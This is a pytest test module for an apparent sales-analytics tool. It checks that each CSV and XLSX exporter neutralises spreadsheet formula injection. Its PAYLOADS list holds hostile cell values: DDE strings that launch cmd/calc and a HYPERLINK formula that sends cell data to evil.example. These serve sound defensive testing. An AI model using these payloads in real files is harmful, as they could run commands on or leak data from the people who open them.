"""Formula injection: every CSV and XLSX writer with the OWASP payloads as ids,
names, reasons and headings; no cell a spreadsheet would run, no row split."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import duckdb
import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from ml.backtest.report import CUSTOMER_RECALL_COLUMNS, typed
from ml.cli import main as cli
from ml.plan import build_plan, to_plan_csv
from ml.safecells import safe_sql, safe_text
from ml.store.project import Project
from ml.workflows.forecast import FORECAST_CSV_COLUMNS, to_forecast_csv
from tests.ml.backtest_builders import small_report
from tests.ml.builders import AS_OF, interactions, weekly_world

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    '=DDE("cmd";"/C calc";"!A0")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\r=1+1",
    "\n=1+1",
    "\t=1+1",
    " =1+1",
    "a\r=1+1",
    "a\n=1+1",
    "\x01id",
    "\x0b=1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def _unsafe(cell: str) -> bool:
    stripped = cell.strip()
    if any(ch in cell for ch in "\r\n"):
        return True
    return stripped.startswith(FORMULA_START) and not NUMBER.fullmatch(stripped)


def read_safe_csv(path: Path, rows: int, encoding: str = "utf-8") -> list[list[str]]:
    """The CSV's rows (heading first), after checking that no cell would run
    and that it has exactly `rows` data rows, for Python's csv module and for
    a reader that starts a row at every line break."""
    with path.open(newline="", encoding=encoding) as handle:
        table = list(csv.reader(handle))
    unsafe = [cell for row in table for cell in row if _unsafe(cell)]
    assert unsafe == [], f"{path.name}: {len(unsafe)} unsafe cells, e.g. {unsafe[:3]}"
    assert len(table) == rows + 1
    lines = path.read_text(encoding=encoding).splitlines()
    assert len(lines) == rows + 1, f"{path.name}: a line break inside a cell"
    return table


def check_xlsx(path: Path, rows: int) -> list[list[object]]:
    """The sheet's values, after checking it holds no formula cell."""
    from openpyxl import load_workbook

    sheet = load_workbook(path).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert [t for t in texts if _unsafe(t)] == []
    assert sheet.max_row == rows + 1
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def _cycle(count: int) -> list[str]:
    return [PAYLOADS[n % len(PAYLOADS)] for n in range(count)]


def _risky_frame() -> pd.DataFrame:
    """Payloads as cells and headings, next to numbers (negative ones too)."""
    return pd.DataFrame(
        {
            '=HYPERLINK("http://evil.example")': PAYLOADS,
            "customer_id": PAYLOADS[::-1],
            "\r@SUM(1+1)": np.arange(len(PAYLOADS)) - 5.5,
            "-rank": np.arange(len(PAYLOADS)) - 3,
            "when": pd.Timestamp("2024-01-01"),
        }
    )


def _assert_numbers_kept(table: list[list[str]]) -> None:
    heading = table[0]
    floats = [float(row[heading.index("'\u0020@SUM(1+1)")]) for row in table[1:]]
    assert floats == list(np.arange(len(PAYLOADS)) - 5.5)
    ints = [int(row[heading.index("'-rank")]) for row in table[1:]]
    assert ints == list(np.arange(len(PAYLOADS)) - 3)


# -- the rule itself ------------------------------------------------------------------

RISKY_TEXT = st.text(
    alphabet=st.sampled_from(
        [
            *"=+-@'. 0123456789eE\t\r\n\x01\x0b\x1f\x85a,\"",
            *"\u00a0\u2028\u3000\uff1d\ufeff",
        ]
    ),
    max_size=12,
)
_SQL = duckdb.connect()


@given(RISKY_TEXT)
def test_the_rule_leaves_nothing_to_run_and_sql_agrees(text: str) -> None:
    safe = safe_text(text)
    assert not _unsafe(safe)
    assert safe_text(safe) == safe  # applying it twice changes nothing
    row = _SQL.execute(f"SELECT {safe_sql('$1')}", [text]).fetchone()
    assert row is not None and row[0] == safe  # the Data page's COPY export


# -- the engine's writers -------------------------------------------------------------


def test_plan_csv(tmp_path: Path) -> None:
    customers = _cycle(len(PAYLOADS))
    offerings = PAYLOADS[3:] + PAYLOADS[:3]
    data = interactions(
        [(c, o, "2024-01-01") for c, o in zip(customers, offerings, strict=True)]
    )
    scored = pd.DataFrame(
        {
            "customer_id": customers,
            "offering_id": offerings[::-1],
            "probability": np.linspace(0.9, 0.1, len(PAYLOADS)),
        }
    )
    plan = build_plan(scored, data, AS_OF)
    assert len(plan.rows) > 0
    read_safe_csv(to_plan_csv(plan, tmp_path / "plan.csv"), len(plan.rows))


def test_forecast_csv(tmp_path: Path) -> None:
    count = len(PAYLOADS)
    frame = pd.DataFrame(
        {
            "offering_id": PAYLOADS,
            "period_start": pd.Timestamp("2024-01-01"),
            "period_end": pd.Timestamp("2024-01-29"),
        }
    )
    for name in FORECAST_CSV_COLUMNS:
        if name not in frame.columns:
            frame[name] = np.linspace(-1.0, 5.0, count)
    table = read_safe_csv(to_forecast_csv(frame, tmp_path / "forecast.csv"), count)
    assert float(table[1][-1]) == -1.0  # a negative number stays a number


def test_backtest_report_csvs(tmp_path: Path) -> None:
    report = small_report()
    weekly = report.demand_weekly.copy()
    weekly["offering_id"] = _cycle(len(weekly))
    recall = report.customer_recall.copy()
    recall["customer_id"] = _cycle(len(recall))
    report = type(report)(
        **{
            **{name: getattr(report, name) for name in report.__dataclass_fields__},
            "demand_weekly": weekly,
            "customer_recall": typed(recall, CUSTOMER_RECALL_COLUMNS),
        }
    )
    written = report.write(tmp_path / "backtest")
    assert written
    for path in written:
        frame = pd.read_csv(path)
        read_safe_csv(path, len(frame))


def _orders_with_payloads(folder: Path) -> tuple[Path, int]:
    """An orders file whose ids and names are payloads, and rows to reject
    whose date and quantity are payloads; with the number of rows to reject."""
    world = weekly_world().dropna(subset=["customer_id"])
    customers = sorted(world["customer_id"].unique())
    offerings = sorted(world["offering_id"].unique())
    cmap = {c: PAYLOADS[n] if n < len(PAYLOADS) else c for n, c in enumerate(customers)}
    omap = {o: PAYLOADS[-n - 1] if n < 6 else o for n, o in enumerate(offerings)}
    orders = pd.DataFrame(
        {
            "InvoiceNo": world["order_id"],
            "StockCode": world["offering_id"].map(omap),
            "Description": world["offering_id"].map(
                {o: PAYLOADS[n % len(PAYLOADS)] for n, o in enumerate(offerings)}
            ),
            "Quantity": "1",
            "InvoiceDate": world["ordered_at"].dt.strftime("%Y-%m-%d 10:00"),
            "UnitPrice": "2.0",
            "CustomerID": world["customer_id"].map(cmap),
            "Country": "France",
        }
    )
    bad = orders.head(2 * len(PAYLOADS)).copy()
    bad["InvoiceNo"] = [f"bad{n}" for n in range(len(bad))]
    bad["InvoiceDate"] = _cycle(len(bad))
    orders = pd.concat([orders, bad], ignore_index=True)
    path = folder / "orders.csv"
    orders.to_csv(path, index=False)
    return path, len(bad)


@pytest.fixture(scope="module")
def payload_project(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """A project imported with `pushwise import` from a file full of payloads,
    and the rejects CSV that command wrote."""
    folder = tmp_path_factory.mktemp("payloads")
    orders, _ = _orders_with_payloads(folder)
    project = folder / "p.pushwise"
    assert cli(["import", str(orders), "--project", str(project)]) == 0
    (rejects,) = folder.glob("*-rejects.csv")
    return project, rejects


def test_import_rejects_csv(payload_project: tuple[Path, Path]) -> None:
    project, rejects = payload_project
    with Project.open(project) as opened:
        (record,) = opened.imports()
        expected = len(opened.rejects(record.import_id))
    assert expected >= 2 * len(PAYLOADS)
    read_safe_csv(rejects, expected)


def test_plan_and_forecast_of_an_imported_project(
    payload_project: tuple[Path, Path], tmp_path: Path
) -> None:
    project, _ = payload_project
    plan, forecast = tmp_path / "plan.csv", tmp_path / "forecast.csv"
    assert cli(["recommend", "--project", str(project), "--out", str(plan)]) == 0
    assert cli(["forecast", "--project", str(project), "--out", str(forecast)]) == 0
    for path in (plan, forecast):
        read_safe_csv(path, len(pd.read_csv(path)))
    cells = pd.read_csv(plan, dtype=str)["customer_id"]
    assert cells.str.startswith("'").any()  # the payload customers got pushes


# -- the window's writers -------------------------------------------------------------


def test_table_export_csv(tmp_path: Path) -> None:
    from app.export import write_frame_csv

    frame = _risky_frame()
    table = read_safe_csv(write_frame_csv(frame, tmp_path / "t.csv"), len(frame))
    _assert_numbers_kept(table)
    assert frame["customer_id"].tolist() == PAYLOADS[::-1]  # the caller's frame


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_push_list_export(tmp_path: Path, suffix: str) -> None:
    from app.planexport import write_push_list

    frame = _risky_frame()
    path = write_push_list(
        frame, tmp_path / f"push{suffix}", lambda *_: None, lambda: False
    )
    if suffix == ".csv":
        _assert_numbers_kept(read_safe_csv(path, len(frame)))
    else:
        values = check_xlsx(path, len(frame))
        assert [row[3] for row in values[1:]] == list(np.arange(len(PAYLOADS)) - 3)


def test_query_table_export(qtbot, payload_project: tuple[Path, Path], tmp_path: Path):
    from app.export import query_export_fn
    from app.querytable import QueryTableModel

    project, _ = payload_project
    con = duckdb.connect(str(project), read_only=True)
    try:
        columns = [row[0] for row in con.execute("DESCRIBE orders").fetchall()]
        model = QueryTableModel(runner=None)  # type: ignore[arg-type]
        model.set_source(None, "orders", columns)
        model.set_labels({"customer_id": '=HYPERLINK("x")', "quantity": "-qty"})
        target = tmp_path / "orders.csv"
        export = query_export_fn(model, con, target)
        export(lambda *_: None, lambda: False)
        rows = con.execute("SELECT count(*) FROM orders").fetchone()
    finally:
        con.close()
    assert rows is not None
    table = read_safe_csv(target, rows[0])
    assert '\'=HYPERLINK("x")' in table[0]


def test_rejects_export_of_the_import_wizard(
    qtbot, payload_project: tuple[Path, Path], tmp_path: Path
) -> None:
    from app.importwizard.reportpage import ReportPage
    from ml.workflows.imports import ImportOutcome, rejects_frame

    project, _ = payload_project
    with Project.open(project) as opened:
        (record,) = opened.imports()
        rejects = rejects_frame(opened.rejects(record.import_id), "=orders.csv")
    report = type("Report", (), {"file": "=orders.csv"})()
    page = ReportPage()
    qtbot.addWidget(page)
    page.outcome = ImportOutcome(report=report, rejects=rejects)  # type: ignore[arg-type]
    path = page.export_rejects(tmp_path / "rejected.csv")
    read_safe_csv(path, len(rejects), encoding="utf-8-sig")
